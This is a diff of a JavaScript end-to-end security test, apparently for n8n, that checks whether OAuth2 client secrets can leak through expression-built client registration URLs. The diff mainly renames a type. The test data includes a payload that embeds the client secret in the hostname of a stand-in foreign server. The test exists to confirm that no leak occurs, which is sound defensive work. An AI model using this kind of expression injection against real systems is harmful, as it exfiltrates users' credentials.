@@ -5,18 +5,18 @@ import { consentAddress } from '../../../e2e/support/oauth2/give-consent.mjs';
 import { callBack, saveUnconnected } from './oauth2-connections.mjs';
 import { startWatch } from '../watch/start-watch.mjs';
 
-/** @typedef {import('../scenario/start-leak-stage.mjs').LeakStage} LeakStage */
+/** @typedef {import('../scenario/start-leak-stage.mjs').LeakEnvironment} LeakEnvironment */
 
 /**
- * Has n8n register a client, each time somebody connects, at an address that an expression makes of
- * the client secret. The dialog has no such fields; n8n's API stores them all the same.
- * @param {LeakStage} stage
+ * Tries to have n8n register a client, each time a user connects, at a URL that an expression builds from the client
+ * secret. The dialog has no such fields, but n8n's API stores them.
+ * @param {LeakEnvironment} environment
  */
-export async function registerClients(stage) {
-	const { n8n, servers, saveConnection } = stage;
-	const saved = await saveUnconnected(saveConnection, stage, '/token');
+export async function registerClients(environment) {
+	const { n8n, servers, saveConnection } = environment;
+	const saved = await saveUnconnected(saveConnection, environment, '/token');
 	const { id, name, type } = saved.credential;
-	const watch = await startWatch(stage);
+	const watch = await startWatch(environment);
 	/** @param {Record<string, unknown>} changes */
 	async function addressAfter(changes) {
 		const data = { ...saved.data, clientSecret: UNCHANGED_SECRET, ...changes };
@@ -32,14 +32,14 @@ export async function registerClients(stage) {
 		const usual = `${servers.authorization.url}/authorize?client_id=${saved.clientId}&`;
 		assert.ok(address.startsWith(usual), address);
 	}
-	assert.deepEqual(stage.arrivals(), []);
+	assert.deepEqual(environment.arrivals(), []);
 	const state = new URL(address).searchParams.get('state') ?? '';
 	assert.equal((await callBack(n8n, { state, code: 'a-code' })).status, 200);
-	expectSecretAtTokenEndpoint(stage, saved.secret);
+	expectSecretAtTokenEndpoint(environment, saved.secret);
 	await watch.expectNoLeak([saved.secret], ['authorization']);
 }
 
-/** @param {LeakStage['servers']['foreign']} foreign */
+/** @param {LeakEnvironment['servers']['foreign']} foreign */
 function registrations({ url, port }) {
 	const addresses = [
 		`=https://{{ $self.clientSecret }}.demo.test:${port}`,
@@ -52,8 +52,8 @@ function registrations({ url, port }) {
 }
 
 /**
- * A connection whose secret goes nowhere would prove nothing.
- * @param {LeakStage} stage
+ * Asserts that the token endpoint got the secret: a connection that sends its secret nowhere would prove nothing.
+ * @param {LeakEnvironment} environment
  * @param {string} secret
  */
 function expectSecretAtTokenEndpoint({ arrivals }, secret) {
